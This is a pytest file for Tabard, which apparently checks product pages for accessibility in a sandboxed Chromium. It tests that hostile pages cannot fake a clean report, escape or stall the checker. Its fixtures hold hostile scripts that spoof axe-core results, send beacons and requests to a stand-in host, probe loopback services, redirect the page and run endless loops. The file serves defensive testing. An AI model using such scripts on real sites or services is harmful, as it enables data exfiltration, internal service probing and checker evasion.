"""Pages in a real Chromium: good ones are judged, hostile ones neither hang the checker nor get out of it."""

import asyncio
import socket
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from threading import Thread

import pytest

from tabard.accreditation import CouldNot, PageSeen, PagesSeen, Subject, Verdict, assess, chromium
from tabard.accreditation.probing import finding
from tabard.accreditation.probing.ports import WIDTHS
from tabard.accreditation.rules import pages_accessible, pages_self_contained
from tabard.product import Package
from unit.accreditation.tiny import PAGE, tiny

ELSEWHERE = "elsewhere.example"
FIELD = '<input id="who">'


def product(scripts: Sequence[str], body: str = "") -> Package:
    """The tiny product with a page for each of these scripts, all with the same more on them."""
    files: dict[str, str] = {}
    for at, script in enumerate(scripts):
        files[f"page-{at}.html"] = PAGE.replace("app.js", f"script-{at}.js").replace("</main>", f"{body}</main>")
        files[f"script-{at}.js"] = f"{script}\n"
    return tiny(files)


def seen(package: Package, page_s: float = 20.0) -> tuple[PageSeen, ...]:
    """What Chromium saw of every page but the product's own."""
    answer = chromium(page_s).pages(package)
    assert isinstance(answer, PagesSeen), answer
    names = {one.path for one in answer.pages}
    assert names == {name for name in package.files if name.endswith(".html")}
    return tuple(one for one in answer.pages if one.path != "index.html" or len(names) == 1)


def rules(hits: tuple[PageSeen, ...]) -> set[str]:
    return {hit.rule for one in hits for hit in one.violations}


def test_a_good_page_is_found_good_at_both_widths_and_always_alike() -> None:
    """Two runs in two browsers give one report, byte for byte."""
    one, other = assess(tiny(), chromium()), assess(tiny(), chromium())
    assert [
        each for each in one.findings if each.rule.startswith("pages-") and each.verdict is not Verdict.passed
    ] == []
    assert one.failing == ()
    assert one.to_bytes() == other.to_bytes()


def test_what_a_machine_can_find_is_found() -> None:
    """A field without a label, a page without a language, small pale text: by the names of axe-core's rules."""
    bad = PAGE.replace(' lang="en-GB"', "").replace("<p", '<input id="who"><p class="pale"')
    package = tiny({"index.html": bad, "app.css": ".pale { color: #bbbbbb; background: #ffffff }"})
    report = assess(package, chromium())
    assert {one.place for one in report.failing if one.rule == "pages-accessible"} == {
        f"index.html {name}" for name in ("html-has-lang", "label", "color-contrast")
    }
    assert {one.rule for one in report.failing} == {"pages-accessible", "pages-titled"}


def test_a_page_that_breaks_on_a_narrow_screen_only_fails() -> None:
    """What is fine at a desk may not be at 400 pixels."""
    style = "a { color: #005eb8; background: #ffffff } @media (max-width: 500px) { a { color: #cccccc } }"
    told = seen(tiny({"index.html": PAGE.replace("</main>", '<a href="#list">The list</a></main>'), "app.css": style}))
    assert {one.width for one in told if one.violations} == {400}


def test_a_page_cannot_make_the_checker_say_it_is_good() -> None:
    """The checker lives in a world that the page's scripts do not reach."""
    script = """
    window.axe = {run: async () => ({violations: [], incomplete: [], passes: Array(80).fill({}), inapplicable: []})};
    Object.defineProperty(window, "axe", {value: window.axe, writable: false, configurable: false});
    JSON.stringify = () => '{"violations": [], "incomplete": [], "tried": 99}';
    Array.prototype.map = () => [];
    """
    assert rules(seen(product([script], FIELD))) == {"label"}


STOPPED = (
    f'fetch("https:" + "//{ELSEWHERE}/fetched").catch(() => 0);',
    f'new Image().src = ["https://{ELSEWHERE}", "pixel"].join("/");',
    f'navigator.sendBeacon("https://{ELSEWHERE}" + "/beacon", "x");',
    f'new WebSocket("wss://{ELSEWHERE}" + "/socket");',
    f'import("https://{ELSEWHERE}" + "/module.js").catch(() => 0);',
    "setTimeout('1', 0);",
    "try { eval('1') } catch { 0 }",
    'document.body.insertAdjacentHTML("beforeend", "<p onclick=go()>x</p>");',
    'const s = document.createElement("style"); s.textContent = "p{}"; document.head.append(s);',
    'const f = document.createElement("iframe"); f.title = "x"; f.src = "data:text/html,x"; document.body.append(f);',
)


def test_what_a_page_s_policy_stops_is_seen() -> None:
    """Whatever is put together at run time fails as what is written out does."""
    package = product(STOPPED)
    answer = chromium().pages(package)
    assert isinstance(answer, PagesSeen)
    found = pages_self_contained.check(Subject(package, answer))
    failed = {one.place for one in found if one.verdict is Verdict.failed and one.place.endswith("px")}
    assert failed == {f"page-{at}.html at {width} px" for at in range(len(STOPPED)) for width in WIDTHS}


AWAY = (
    f'location.href = "https:" + "//{ELSEWHERE}/gone?who=1#x";',
    f'window.open("https:" + "//{ELSEWHERE}/gone");',
    f'const a = document.createElement("a"); a.href = "https:" + "//{ELSEWHERE}/gone"; a.textContent = "Gone"; document.body.append(a); a.click();',
)


def test_a_page_that_would_lead_away_is_kept_and_told_of() -> None:
    """It stays where it is and is judged as it stands; the address is told without what might hold data."""
    told = seen(product(AWAY, FIELD))
    assert [one.refused for one in told] == [(f"https://{ELSEWHERE}/gone",)] * len(told)
    assert all("label" in {hit.rule for hit in one.violations} for one in told)


PESTERING = (
    'alert("a"); confirm("b"); prompt("c");',
    'window.onbeforeunload = () => "stay"; location.reload();',
    'const a = document.createElement("a"); a.href = "app.css"; a.download = "x"; a.click();',
    "window.print();",
    'navigator.serviceWorker?.register("app.js").catch(() => 0);',
    "setInterval(() => history.pushState({}, '', '?' + Math.random()), 50);",
    "setInterval(() => fetch('app.css'), 50);",
)


def test_a_page_that_pesters_is_judged_all_the_same() -> None:
    """Dialogs, downloads, printing, reloading, asking on and on: nobody is there to answer, and nothing waits."""
    told = seen(product(PESTERING, FIELD))
    assert [({hit.rule for hit in one.violations}, one.fault) for one in told] == [({"label"}, "")] * len(told)


ENDLESS = (
    "for (;;) {}",
    "for (;;) alert('again');",
    "setTimeout(() => { for (;;) {} }, 300);",
    "const hold = []; for (;;) hold.push(new Array(1e6).fill(hold));",
)


def test_a_page_that_never_rests_is_given_up_and_is_no_pass() -> None:
    """The checker goes on to the next page, and says of each what became of it."""
    package = product((*ENDLESS, "0;"))
    answer = chromium(page_s=12.0).pages(package)
    assert isinstance(answer, PagesSeen)
    given_up = {one.path for one in answer.pages if one.fault}
    assert given_up == {f"page-{at}.html" for at in range(len(ENDLESS))}
    found = tuple(pages_accessible.check(Subject(package, answer)))
    assert {one.place for one in found if one.verdict is Verdict.not_assessed} == given_up
    assert {one.place for one in found if one.verdict is Verdict.passed} == {"index.html", f"page-{len(ENDLESS)}.html"}


def test_a_huge_page_is_given_up_in_time() -> None:
    """A quarter of a million elements are nobody's screen."""
    told = seen(product(["0;"], "<p><span>x</span></p>" * 125_000), page_s=5.0)
    assert all(one.fault for one in told)


def test_only_so_many_pages_are_looked_at_and_the_rest_are_no_pass() -> None:
    """A product of a thousand pages does not hold the store for hours."""
    package = tiny({f"more-{at}.html": PAGE for at in range(3)})
    answer = chromium(20.0, 2).pages(package)
    assert isinstance(answer, PagesSeen)
    assert len({one.path for one in answer.pages}) == 2
    assert len([one for one in assess(package, chromium(20.0, 2)).unassessed if one.rule == "pages-accessible"]) == 2


@contextmanager
def listening() -> Iterator[tuple[int, list[bytes]]]:
    """A service on this machine's loopback, and what it was sent."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    heard.append(connection.recv(100))

        thread = Thread(target=serve, daemon=True)
        thread.start()
        yield server.getsockname()[1], heard
        server.shutdown(socket.SHUT_RDWR)
    thread.join(5)


def test_a_page_reaches_nothing_on_this_machine() -> None:
    """A store's own services listen on loopback: a product under judgement must not speak to them by any way."""
    with listening() as (port, heard):
        script = f"""
        const at = "http://127.0.0.1:{port}" + "/";
        fetch(at, {{mode: "no-cors", method: "POST", body: "x"}}).catch(() => 0);
        new Image().src = at; navigator.sendBeacon(at, "x"); window.open(at);
        new WebSocket("ws://127.0.0.1:{port}" + "/"); new WebSocket("ws://localhost:{port}" + "/");
        new WebSocket("ws://" + location.host + ":{port}/");
        const link = document.createElement("link"); link.rel = "preconnect"; link.href = at; document.head.append(link);
        const form = document.createElement("form"); form.action = at; form.method = "post"; document.body.append(form); form.submit();
        location.href = at;
        """
        told = seen(product([script]))
    assert heard == []
    assert all(f"http://127.0.0.1:{port}/" in one.refused for one in told)


def test_it_runs_within_somebody_s_event_loop() -> None:
    """A store that serves pages asks for it from a loop of its own."""

    async def ask() -> PagesSeen | CouldNot:
        return chromium().pages(tiny())

    assert isinstance(asyncio.run(ask()), PagesSeen)


def test_without_chromium_it_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    """A reason and what to do, and no pass."""
    monkeypatch.setenv("TABARD_CHROMIUM", "/nowhere/chromium")
    answer = chromium().pages(tiny())
    assert isinstance(answer, CouldNot)
    assert "TABARD_CHROMIUM" in answer.reason
    unassessed = {one.rule for one in assess(tiny(), chromium()).unassessed}
    assert {one for one in unassessed if one.startswith("pages-")} == {
        "pages-accessible",
        "pages-by-keyboard",
        "pages-self-contained",
    }


def test_a_chromium_that_does_not_start_is_no_pass(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Something of that name that is none."""
    false = tmp_path / "chromium"
    false.write_text("#!/bin/sh\nexit 3\n")
    false.chmod(0o755)
    monkeypatch.setenv("TABARD_CHROMIUM", str(false))
    answer = chromium().pages(tiny())
    assert isinstance(answer, CouldNot)
    assert answer.reason.startswith("the browser failed")


def test_without_axe_it_says_what_to_run(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A checkout that was not set up."""
    monkeypatch.setattr(finding, "files", lambda _: tmp_path)
    answer = chromium().pages(tiny())
    assert isinstance(answer, CouldNot)
    assert "make setup" in answer.remedy


def test_without_playwright_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    """It is an optional part of Tabard."""
    monkeypatch.setattr(finding, "find_spec", lambda _: None)
    answer = chromium().pages(tiny())
    assert isinstance(answer, CouldNot)
    assert "tabard[checks]" in answer.remedy
